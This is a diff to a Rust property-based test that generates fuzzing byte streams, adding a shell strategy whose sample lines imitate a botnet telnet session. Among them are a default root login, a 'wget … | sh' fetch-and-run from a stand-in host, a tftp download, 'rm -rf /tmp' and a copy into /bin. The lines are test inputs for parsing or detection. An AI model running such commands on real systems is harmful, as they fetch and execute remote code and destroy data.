@@ -99,6 +99,7 @@ fn stream() -> impl Strategy<Value = Vec<u8>> {
         4 => chat(),
         4 => redis(),
         4 => mysql(),
+        4 => shell(),
         1 => garbage,
     ];
     prop::collection::vec(part, 0..5).prop_map(|parts| parts.concat())
@@ -348,6 +349,36 @@ const REDIS_COMMANDS: &[&str] = &[
     "CONFIG SET dir /\r\n",
     "EVAL \"return KEYS[9]\" 1 a\r\n",
     "SET a \"\r\n",
+];
+
+fn shell() -> impl Strategy<Value = Vec<u8>> {
+    let lines = prop::collection::vec(prop::sample::select(SHELL_LINES), 0..20);
+    let start = prop::sample::select(&["", "root\r\nroot\r\n"][..]);
+    (start, lines).prop_map(|(start, lines)| [start, &lines.concat()].concat().into_bytes())
+}
+
+/// Lines of a shell, and what is nearly one.
+const SHELL_LINES: &[&str] = &[
+    "enable\r\n",
+    "/bin/busybox X\r\n",
+    "cd /tmp || cd /x; > .f\r\0",
+    "echo -ne '\\x7f\\0377' >> .f\n",
+    "printf %s%d%b\\n a 1 '\\t' > g; cat .f g | wc\r\n",
+    "for i in * ?; do echo $i; done\r\n",
+    "while :; do a=$a$a$i; done\r\n",
+    "if [ -s .f ]; then\r\n",
+    "fi\r\n",
+    "cat <<E > h\r\n",
+    "E\r\n",
+    "cat > i\r\n\x04",
+    "passwd\r\nx\r\nx\r\n",
+    "((`echo $(b`)\r\n",
+    "'\r\n\"\r\n'\r\n",
+    "sh\r\n\x03sh g; . g; eval sh -c 'sh g'\r\n",
+    "dd if=/dev/urandom of=j bs=99 count=3; mv j k; cp k /bin/l; rm -rf /tmp\r\n",
+    "wget -O- a.test/x|sh;tftp -g -r y b;ln -s . m; cd m/m; ls -la / *\r\n",
+    "ps|awk '{print $1 \"-\" $NF}'|sort -rn|uniq -c|tr a-z A-Z|cut -d' ' -f2|grep -v ^$\r\n",
+    "exit\r\n",
 ];
 
 fn dns_message() -> impl Strategy<Value = Vec<u8>> {
